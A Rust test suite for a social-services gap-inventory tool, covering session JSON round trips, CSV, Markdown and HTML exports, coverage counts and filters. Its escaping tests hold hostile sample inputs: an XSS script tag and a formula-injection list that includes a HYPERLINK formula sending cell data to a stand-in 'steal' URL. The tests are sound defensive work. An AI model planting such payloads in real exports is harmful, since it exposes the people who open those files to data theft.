//! Native tests of gaps, sessions, the inventory and its exports, with property tests for
//! the round trips (session → JSON → session, inventory → CSV → rows) and the arithmetic.
#![cfg(not(target_arch = "wasm32"))]

mod common;

use proptest::prelude::*;
use service_range_mapper::core::continuum::Network;
use service_range_mapper::core::defaults::default_config;
use service_range_mapper::core::export::{
    csv, html, markdown, report, spreadsheet_safe, table_header, table_rows,
};
use service_range_mapper::core::figures::range;
use service_range_mapper::core::gaps::*;
use service_range_mapper::core::inventory::{
    lines, select, tier_coverage, Entry, Filter, Group, Sort, SortBy,
};
use service_range_mapper::core::model::Config;
use service_range_mapper::core::session::{fingerprint, identity, Fit, Session, SessionProblem};
use service_range_mapper::core::text::Lang;

fn config() -> Config {
    default_config().config.unwrap()
}

fn gap(id: &str, target: GapTarget, impact: u8, feasibility: u8) -> Gap {
    Gap {
        impact,
        feasibility,
        ..common::gap(id, target)
    }
}

fn on_service(id: &str) -> GapTarget {
    GapTarget::Service { service: id.into() }
}

fn pick<T: Copy + std::fmt::Debug>(all: &'static [T]) -> impl Strategy<Value = T> {
    (0..all.len()).prop_map(move |i| all[i])
}

prop_compose! {
    fn any_gap(service_ids: Vec<String>)(
        n in 0u32..10_000,
        target in prop_oneof![
            (0..service_ids.len()).prop_map(move |i| GapTarget::Service { service: service_ids[i].clone() }),
            Just(GapTarget::Tier { tier: "intersectoriel".into() }),
            Just(GapTarget::Other),
            "[a-z]{1,8}".prop_map(|s| GapTarget::Service { service: format!("removed-{s}") }),
        ],
        kind in pick(GapKind::ALL),
        barrier in proptest::option::of(pick(Barrier::ALL)),
        severity in pick(GapSeverity::ALL),
        perspective in pick(Perspective::ALL),
        population in "\\PC{0,30}",
        note in "[\\PC\n\r,\";]{0,60}",
        action in "\\PC{0,40}",
        impact in 1u8..=5,
        feasibility in 1u8..=5,
        author in proptest::option::of("\\PC{1,12}"),
    ) -> Gap {
        Gap {
            id: format!("g{n}"),
            target, kind, barrier, severity, population, perspective, note, action,
            impact, feasibility,
            created: "2026-11-22T09:00:00.000Z".into(),
            modified: "2026-11-22T09:30:00.000Z".into(),
            author,
        }
    }
}

fn any_session() -> impl Strategy<Value = Session> {
    let config = config();
    let ids: Vec<String> = config.services.iter().map(|s| s.id.clone()).collect();
    let coverage_ids = ids.clone();
    (
        proptest::collection::vec(any_gap(ids), 0..12),
        proptest::collection::btree_map(
            (0..coverage_ids.len()).prop_map(move |i| coverage_ids[i].clone()),
            pick(Coverage::ALL),
            0..6,
        ),
    )
        .prop_map(move |(mut gaps, coverage)| {
            // Ids are unique within a session.
            for (i, g) in gaps.iter_mut().enumerate() {
                g.id = format!("g{}", i + 1);
            }
            Session {
                gaps,
                coverage,
                ..Session::new(&config)
            }
        })
}

proptest! {
    #![proptest_config(ProptestConfig::with_cases(64))]

    #[test]
    fn a_session_survives_json_exactly(session in any_session()) {
        let text = serde_json::to_string(&session).unwrap();
        let back: Session = serde_json::from_str(&text).unwrap();
        prop_assert_eq!(&back, &session);
        prop_assert_eq!(back.check(&config()), Ok(Fit::Same));
    }

    #[test]
    fn the_csv_reads_back_as_the_same_rows(session in any_session(), english in any::<bool>()) {
        let lang = if english { Lang::En } else { Lang::Fr };
        let config = config();
        let range = range(&config);
        let bytes = csv(&config, &range, &session, lang);
        prop_assert!(bytes.starts_with(b"\xEF\xBB\xBF"), "UTF-8 BOM for Excel");
        let mut reader = ::csv::Reader::from_reader(&bytes[3..]);
        let header: Vec<String> = reader.headers().unwrap().iter().map(String::from).collect();
        prop_assert_eq!(header, table_header(lang));
        let rows: Vec<Vec<String>> = reader
            .records()
            .map(|r| r.unwrap().iter().map(String::from).collect())
            .collect();
        // As written, each cell made safe for spreadsheets.
        let safe: Vec<Vec<String>> = table_rows(&config, &range, &session, lang)
            .iter()
            .map(|row| row.iter().map(|cell| spreadsheet_safe(cell).into_owned()).collect())
            .collect();
        prop_assert_eq!(&rows, &safe);
        prop_assert!(rows.iter().flatten().all(|cell| !cell.starts_with(['=', '+', '-', '@', '\t', '\r'])));
        // One row per gap, one per service not covered, one per collaboration gap.
        let uncovered = lines(&config, &range, &session)
            .iter()
            .filter(|l| matches!(l.entry, Entry::Uncovered { .. }))
            .count();
        let collaboration = Network::build(&config, &session).gaps().len();
        prop_assert_eq!(rows.len(), session.gaps.len() + uncovered + collaboration);
    }

    #[test]
    fn priority_is_impact_times_feasibility(impact in 1u8..=5, feasibility in 1u8..=5) {
        let g = gap("g1", GapTarget::Other, impact, feasibility);
        prop_assert_eq!(g.priority(), impact * feasibility);
        prop_assert!((1..=25).contains(&g.priority()));
    }

    #[test]
    fn tier_coverage_adds_up(session in any_session()) {
        let config = config();
        let range = range(&config);
        let coverage = tier_coverage(&config, &range, &session);
        for (tier, c) in range.iter().zip(&coverage) {
            prop_assert_eq!(c.total, tier.services.len());
            prop_assert_eq!(c.covered + c.partial + c.absent + c.not_assessed, c.total);
        }
        // Services not covered are exactly the inventory's uncovered lines.
        let not_covered: usize = coverage.iter().map(|c| c.total - c.covered).sum();
        let uncovered = lines(&config, &range, &session)
            .iter()
            .filter(|l| matches!(l.entry, Entry::Uncovered { .. }))
            .count();
        prop_assert_eq!(not_covered, uncovered);
    }

    #[test]
    fn filters_keep_exactly_the_matching_gaps(session in any_session(), severity in pick(GapSeverity::ALL), min in 1u8..=25) {
        let config = config();
        let range = range(&config);
        let filter = Filter { severity: Some(severity), min_priority: min, ..Filter::default() };
        let kept = select(&config, &session, lines(&config, &range, &session), &filter, Sort::default());
        let expected = session.gaps.iter().filter(|g| g.severity == severity && g.priority() >= min).count();
        prop_assert_eq!(kept.len(), expected);
        // Within each group, top priorities first.
        for pair in kept.windows(2) {
            if let (Entry::Gap(a), Entry::Gap(b)) = (pair[0].entry, pair[1].entry) {
                if pair[0].group == pair[1].group {
                    prop_assert!(session.gaps[a].priority() >= session.gaps[b].priority());
                }
            }
        }
    }
}

#[test]
fn suggested_coverage_follows_the_offers_and_the_workshop_can_change_it() {
    let config = config();
    let range = range(&config);
    let mut session = Session::new(&config);
    let before = tier_coverage(&config, &range, &session);
    assert_eq!(
        before.iter().map(|c| c.covered).collect::<Vec<_>>(),
        [5, 3, 3]
    );
    session.coverage.insert("urgence".into(), Coverage::Partial);
    session.coverage.insert("loisirs".into(), Coverage::Covered);
    let after = tier_coverage(&config, &range, &session);
    assert_eq!(
        after.iter().map(|c| c.covered).collect::<Vec<_>>(),
        [5, 4, 2]
    );
}

#[test]
fn inventory_groups_by_tier_then_other_needs_then_orphans() {
    let config = config();
    let range = range(&config);
    let mut session = Session::new(&config);
    session.gaps = vec![
        gap("g1", GapTarget::Other, 2, 2),
        gap("g2", on_service("service-disparu"), 5, 5),
        gap("g3", on_service("urgence"), 1, 1),
        gap("g4", on_service("crise"), 4, 5),
        gap(
            "g5",
            GapTarget::Tier {
                tier: "intersectoriel".into(),
            },
            3,
            3,
        ),
    ];
    let all = select(
        &config,
        &session,
        lines(&config, &range, &session),
        &Filter::default(),
        Sort::default(),
    );
    let groups: Vec<Group> = all.iter().map(|l| l.group).collect();
    let mut sorted = groups.clone();
    sorted.sort();
    assert_eq!(groups, sorted, "groups in order");
    let gap_groups: Vec<(String, Group)> = all
        .iter()
        .filter_map(|l| match l.entry {
            Entry::Gap(i) => Some((session.gaps[i].id.clone(), l.group)),
            _ => None,
        })
        .collect();
    assert_eq!(
        gap_groups,
        [
            ("g4".to_string(), Group::Tier(0)),
            ("g5".to_string(), Group::Tier(1)),
            ("g3".to_string(), Group::Tier(2)),
            ("g1".to_string(), Group::Other),
            ("g2".to_string(), Group::Orphaned),
        ]
    );
    // In a tier, gaps (top priority first) come before services merely not covered.
    let first_tier: Vec<_> = all.iter().filter(|l| l.group == Group::Tier(0)).collect();
    assert!(matches!(first_tier[0].entry, Entry::Gap(_)));
    // Sorting by service name, ascending.
    let by_name = select(
        &config,
        &session,
        lines(&config, &range, &session),
        &Filter {
            group: Some(Group::Tier(1)),
            ..Filter::default()
        },
        Sort {
            by: SortBy::Service,
            descending: false,
        },
    );
    assert!(by_name.iter().all(|l| l.group == Group::Tier(1)));
}

#[test]
fn sessions_of_other_configs_or_formats_are_refused() {
    let config = config();
    let session = Session::new(&config);
    assert_eq!(session.check(&config), Ok(Fit::Same));
    let foreign = Session {
        format: "something-else".into(),
        ..session.clone()
    };
    assert_eq!(foreign.check(&config), Err(SessionProblem::NotASession));
    let future = Session {
        version: 2,
        ..session.clone()
    };
    assert_eq!(
        future.check(&config),
        Err(SessionProblem::UnsupportedVersion { found: 2 })
    );
    let other = Session {
        config: "another-territory".into(),
        ..session.clone()
    };
    assert!(matches!(
        other.check(&config),
        Err(SessionProblem::OtherConfig { .. })
    ));
    let mut bad = session.clone();
    bad.gaps = vec![gap("g1", GapTarget::Other, 6, 1)];
    assert!(matches!(
        bad.check(&config),
        Err(SessionProblem::Invalid { .. })
    ));
    bad.gaps = vec![
        gap("g1", GapTarget::Other, 1, 1),
        gap("g1", GapTarget::Other, 1, 1),
    ];
    assert!(matches!(
        bad.check(&config),
        Err(SessionProblem::Invalid { .. })
    ));
}

#[test]
fn a_session_follows_its_config_across_versions_and_keeps_orphans() {
    let config = config();
    let mut session = Session::new(&config);
    session.gaps = vec![
        gap("g1", on_service("medico-legaux"), 3, 3),
        gap("g2", on_service("crise"), 2, 2),
    ];
    let mut changed = config.clone();
    changed.services.retain(|s| s.id != "medico-legaux");
    changed.offers.retain(|o| o.service != "medico-legaux");
    assert_eq!(
        identity(&changed),
        identity(&config),
        "same config, new version"
    );
    assert_ne!(fingerprint(&changed), fingerprint(&config));
    assert_eq!(session.check(&changed), Ok(Fit::OtherVersion));
    assert!(Session::is_orphan(&session.gaps[0], &changed));
    assert!(!Session::is_orphan(&session.gaps[1], &changed));
    let range = range(&changed);
    let all = lines(&changed, &range, &session);
    assert!(
        all.iter()
            .any(|l| l.group == Group::Orphaned && l.entry == Entry::Gap(0)),
        "kept, as an orphan"
    );
    // A description change is not a new version.
    let mut reworded = config.clone();
    reworded.services[0].description = None;
    assert_eq!(fingerprint(&reworded), fingerprint(&config));
}

#[test]
fn new_gap_ids_are_never_reused() {
    let config = config();
    let mut session = Session::new(&config);
    assert_eq!(session.next_gap_id(), "g1");
    session.gaps = vec![
        gap("g1", GapTarget::Other, 1, 1),
        gap("g7", GapTarget::Other, 1, 1),
    ];
    assert_eq!(session.next_gap_id(), "g8");
}

#[test]
fn reports_group_gaps_by_tier_with_actions_and_escape_text() {
    let config = config();
    let range = range(&config);
    let mut session = Session::new(&config);
    let mut urgent = gap("g1", on_service("hebergement-specialise"), 5, 4);
    urgent.action = "Ouvrir 10 places <script>alert(1)</script> & plus".into();
    urgent.severity = GapSeverity::High;
    let mut barrier = gap("g2", on_service("transport"), 3, 3);
    barrier.kind = GapKind::AccessBarrier;
    barrier.barrier = Some(Barrier::Distance);
    barrier.action = "Navette vers Port-aux-Pins | jeudi".into();
    session.gaps = vec![urgent, barrier];
    let r = report(&config, &range, &session, Lang::Fr, "22 novembre 2026");
    assert_eq!(r.actions.len(), 2);
    assert!(
        r.actions[0].0.contains("20/25"),
        "top priority first: {:?}",
        r.actions
    );
    let md = markdown(&r);
    assert!(md.starts_with("# Inventaire des besoins non comblés"));
    assert!(md.contains("## Services spécialisés"));
    assert!(md.contains("Obstacle à l'accès (Distance)"));
    assert!(md.contains("\\| jeudi"), "pipes escaped in Markdown");
    assert!(md.contains("5 sur 9 services couverts"));
    let page = html(&r);
    assert!(page.contains("<html lang=\"fr\">") && page.contains("@media print"));
    assert!(!page.contains("<script>"), "workshop text is escaped");
    assert!(page.contains("&lt;script&gt;") && page.contains("&amp; plus"));
    assert!(page.contains("<meter min=\"0\" max=\"9\" value=\"5\"></meter>"));
    let en = markdown(&report(
        &config,
        &range,
        &session,
        Lang::En,
        "November 22, 2026",
    ));
    assert!(en.contains("Inventory of unmet needs") && en.contains("Access barrier (Distance)"));
}

#[test]
fn gap_names_are_stable() {
    for kind in GapKind::ALL {
        assert_eq!(serde_json::to_value(kind).unwrap(), kind.key());
        assert_eq!(GapKind::from_key(kind.key()), Some(*kind));
    }
    for c in Coverage::ALL {
        assert_eq!(serde_json::to_value(c).unwrap(), c.key());
    }
    for p in Perspective::ALL {
        assert_eq!(serde_json::to_value(p).unwrap(), p.key());
    }
    for b in Barrier::ALL {
        assert_eq!(serde_json::to_value(b).unwrap(), b.key());
    }
}

#[test]
fn the_readme_session_example_is_a_session_of_the_default_config() {
    let session: Session =
        serde_json::from_str(&common::readme_json_after("The session file:")).unwrap();
    assert_eq!(
        session.check(&config()),
        Ok(Fit::OtherVersion),
        "its fingerprint is an example"
    );
    assert_eq!(session.gaps[0].barrier, Some(Barrier::Distance));
    assert_eq!(session.gaps[0].priority(), 12);
}

#[test]
fn no_csv_cell_starts_a_formula() {
    let config = config();
    let mut session = Session::new(&config);
    let hostile = [
        "=HYPERLINK(\"http://example.org/steal?\"&A1, \"Cliquez\")",
        "+1+2",
        "-2+3",
        "@SUM(A1:A3)",
        "\t=1",
        "\r=1",
    ];
    for (i, text) in hostile.iter().enumerate() {
        let mut gap = common::gap(&format!("g{}", i + 1), GapTarget::Other);
        gap.note = text.to_string();
        gap.population = text.to_string();
        gap.action = text.to_string();
        session.gaps.push(gap);
    }
    let bytes = csv(&config, &range(&config), &session, Lang::Fr);
    let mut reader = ::csv::Reader::from_reader(&bytes[3..]);
    let cells: Vec<String> = reader
        .records()
        .flat_map(|r| r.unwrap().iter().map(String::from).collect::<Vec<_>>())
        .collect();
    for text in hostile {
        assert!(
            cells.contains(&format!("'{text}")),
            "{text:?} written as text"
        );
    }
    assert!(cells
        .iter()
        .all(|c| !c.starts_with(['=', '+', '-', '@', '\t', '\r'])));
    assert_eq!(spreadsheet_safe("Logement"), "Logement");
    assert_eq!(spreadsheet_safe(""), "");
}
